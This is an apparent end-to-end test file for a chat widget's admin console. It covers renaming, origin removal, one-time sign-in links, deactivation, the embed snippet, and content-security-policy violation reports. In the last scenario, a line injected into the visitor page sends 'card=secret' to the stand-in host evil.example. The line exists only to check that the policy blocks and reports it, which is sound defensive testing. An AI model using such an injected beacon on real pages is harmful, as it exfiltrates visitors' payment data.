// The console: what an administrator changes there is what visitors and experts meet.

import assert from "node:assert/strict";

import { scenario } from "./harness/scenario.mjs";
import { snippet } from "./harness/stack.mjs";
import { until } from "./harness/wait.mjs";

scenario("the organisation's name changes, and the widget says it", async (world) => {
  const organisation = await world.organisation();
  await world.desk(organisation.people[0]);
  const { page } = await world.console(organisation);
  await page.getByLabel("Name", { exact: true }).fill("Spade & Sons");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText("Saved.").waitFor();
  const visitor = await world.visitor(organisation);
  await visitor.launcher.click();
  await visitor.widget.getByText("Talk to Spade & Sons").waitFor();
});

scenario("an origin that is taken off the list is answered no more", async (world) => {
  const organisation = await world.organisation();
  await world.desk(organisation.people[0]);
  const visitor = await world.visitor(organisation);
  await visitor.seesFree();
  const { page } = await world.console(organisation);
  await page.getByRole("button", { name: `Remove ${organisation.customer.origin}` }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Remove", exact: true }).click();
  await page.getByText("No website yet").waitFor();
  await visitor.seesUnreachable();
});

scenario("a new person signs in with their link, once, and is out when deactivated", async (world) => {
  const organisation = await world.organisation();
  const { page, section } = await world.console(organisation);
  await section("People");
  await page.getByRole("button", { name: "Add a person" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name").fill("Nora New");
  await dialog.getByLabel("E-mail").fill("nora.new@example.org");
  await dialog.getByLabel("Expert").check();
  await dialog.getByRole("button", { name: /Add|Save/ }).click();
  const person = page.getByRole("listitem").filter({ hasText: "Nora New" });
  await person.getByRole("button", { name: /sign-in link/i }).click();
  const link = page.getByRole("dialog").getByText("#sign-in=");
  const url = (await link.textContent())?.trim() ?? "";
  await page.getByRole("button", { name: "Done" }).click();

  const desk = await world.desk({ id: "", name: "Nora New", roles: ["expert"], sign_in_url: url });
  const again = await world.page("somebody who found the link");
  await again.goto(url);
  await again.getByRole("heading", { name: "This link no longer works" }).waitFor();

  await person.getByRole("button", { name: /Deactivate/ }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Deactivate", exact: true }).click();
  await person.getByText("Deactivated").waitFor();
  await desk.page.getByRole("heading", { name: "You have been signed out" }).waitFor();
});

scenario("the snippet to copy is the one that works", async (world) => {
  const organisation = await world.organisation();
  const { page, section } = await world.console(organisation);
  await section("Embed");
  const { html } = await snippet(world.stack, organisation.office.token);
  assert.match(html, /integrity="sha384-[\w+/=]+"/);
  await page.getByText(html, { exact: true }).waitFor();
});

scenario("what the customer's policy refuses is reported, shown and cleared", async (world) => {
  const organisation = await world.organisation();
  const visitor = await world.visitor(organisation);
  await visitor.page.evaluate(() => {
    new Image().src = "https://evil.example/pixel.gif?card=secret";
  });
  // The violation was wanted; none may be left on the pages that stay open.
  await visitor.page.close();
  const { page, section } = await world.console(organisation);
  await section("Reports");
  // Browsers send reports when they find the time.
  await until("the violation is shown", async () => {
    await page.getByRole("button", { name: "Load again" }).click();
    await page.getByText("Loading").first().waitFor({ state: "hidden" });
    return page.getByText("https://evil.example").first().isVisible();
  });
  await page.getByText(`${organisation.customer.origin}/shop`).first().waitFor();
  assert.equal(await page.getByText("secret").count(), 0, "queries are not kept");
  await page.getByRole("button", { name: "Clear all" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Clear", exact: true }).click();
  await page.getByText("No violations reported").waitFor();
});
